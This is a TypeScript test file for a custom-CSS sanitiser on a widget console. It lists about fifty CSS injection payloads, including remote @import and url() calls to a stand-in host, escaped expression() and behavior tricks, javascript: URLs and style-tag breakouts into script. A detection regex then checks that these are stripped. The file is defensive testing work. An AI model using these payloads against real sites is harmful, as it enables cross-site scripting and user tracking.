import { sanitizeCustomCss } from './custom-css';

const ORIGIN = 'https://console.example.jp';
const clean = (css: string) => sanitizeCustomCss(css, ORIGIN);

// Each of these must come out with nothing that loads from another host, runs script or escapes the style element.
const HOSTILE = [
  '@import url(https://evil.example/x.css); .a{color:red}',
  "@import 'https://evil.example/x.css';",
  '@IMPORT "//evil.example/x.css";',
  '@\\69mport url(https://evil.example/x.css);',
  '.a{background:url(https://evil.example/track.gif)}',
  '.a{background:url("//evil.example/track.gif")}',
  ".a{background:url('http://evil.example/t.png')}",
  '.a{background:URL(https://evil.example/t.png)}',
  '.a{background:u\\72l(https://evil.example/t.png)}',
  '.a{background:\\75\\72\\6c(https://evil.example/t.png)}',
  '.a{background:url(javascript:alert(1))}',
  '.a{background:url(data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)}',
  '.a{background-image:image-set("https://evil.example/a.png" 1x)}',
  '.a{background-image:-webkit-image-set(url(https://evil.example/a.png) 1x)}',
  '.a{width:expression(alert(1))}',
  '.a{width:EXPRESSION(alert(1))}',
  '.a{width:exp\\72 ession(alert(1))}',
  '.a{behavior:url(x.htc)}',
  '.a{-moz-binding:url(https://evil.example/x.xml#x)}',
  '.a{b\\65havior:url(x.htc)}',
  '</style><script>alert(1)</script>',
  '.a{color:red}</style><script>alert(1)</script><style>',
  '.a{font-family:"</style><img src=x onerror=alert(1)>"}',
  '.a::after{content:"<img src=x onerror=alert(1)>"}',
  '.a{color:red;}\n</STYLE><svg onload=alert(1)>',
  '@font-face{font-family:x;src:url(https://evil.example/f.woff)}',
  '@namespace url(https://evil.example/ns);',
  '@charset "utf-8"; .a{color:red}',
  '.a{cursor:url(https://evil.example/c.cur),auto}',
  '.a{list-style:url(https://evil.example/l.png)}',
  '.a{border-image:url(https://evil.example/b.png) 30}',
  '.a{mask:url(https://evil.example/m.svg)}',
  '.a{filter:url(https://evil.example/f.svg#f)}',
  '@media screen{.a{background:url(https://evil.example/m.png)}}',
  '@supports (display:grid){.a{background:url(https://evil.example/s.png)}}',
  '.a{position:fixed;top:0;left:0;width:100vw;height:100vh}',
  '.a{position:sticky}',
  ':host{position:fixed;inset:0}',
  '.a{background:url(https://console.example.jp.evil.example/x.png)}',
  '.a{background:url(https://user:pass@evil.example/x.png)}',
  '.a{background:src("https://evil.example/x.png")}',
  '.a{content:attr(data-x url)}',
  '.a{background:url(https://evil.example/x.png',
  '.a{color:red',
  '<!-- .a{color:red} -->',
  '.a{background:cross-fade(url(https://evil.example/a.png),url(https://evil.example/b.png),50%)}',
  '.a{background:element(#x)}',
  '.a{background:paint(x)}',
  '@page{margin:0}',
  '@layer x{.a{background:url(https://evil.example/l.png)}}',
  '@container (min-width:1px){.a{background:url(https://evil.example/c.png)}}',
  '.a{background:url(vbscript:msgbox(1))}',
];

describe('sanitizeCustomCss', () => {
  it.each(HOSTILE)('neutralises %s', async (css) => {
    const out = await clean(css);
    expect(out).not.toMatch(/evil\.example|javascript:|vbscript:|data:|expression\s*\(|@import|@font-face|@namespace|binding|behavior|<|position\s*:\s*(fixed|sticky)/iu);
    expect(out.toLowerCase()).not.toContain('</style');
    // Whatever is left still parses as CSS (the filter never leaves half a rule).
    expect(await clean(out)).toBe(out);
  });

  it('keeps ordinary styling, media queries, keyframes and images from the widget server itself', async () => {
    const css = [
      '.mw{border-radius:0 !important}',
      '.it > .tx{font-size:15px;color:#333}',
      '@media (max-width:600px){.hd h2{font-size:16px}}',
      '@keyframes fade{from{opacity:0}to{opacity:1}}',
      `.hd{background:url(${ORIGIN}/brand/bg.png) no-repeat}`,
    ].join('\n');
    const out = await clean(css);
    expect(out).toContain('.it > .tx{font-size:15px;color:#333}');
    expect(out).toContain('@media (max-width:600px)');
    expect(out).toContain('@keyframes fade');
    expect(out).toContain(`url(${ORIGIN}/brand/bg.png)`);
    expect(out).toContain('border-radius:0 !important');
  });

  it('answers nothing for empty or unreadable CSS', async () => {
    expect(await clean('')).toBe('');
    expect(await clean('   ')).toBe('');
    expect(await clean('.a{color:red}}}')).toBe('');
  });
});
